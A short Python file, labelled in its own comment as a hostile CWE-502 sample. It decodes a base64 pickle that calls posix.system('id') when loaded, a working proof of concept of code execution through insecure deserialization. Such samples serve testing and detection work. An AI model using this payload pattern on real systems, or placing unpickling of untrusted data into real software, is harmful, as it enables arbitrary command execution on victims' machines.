# hostile: a crafted pickle that calls posix.system when loaded (CWE-502)
import base64
import pickle

data = base64.b64decode("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")
pickle.loads(data)
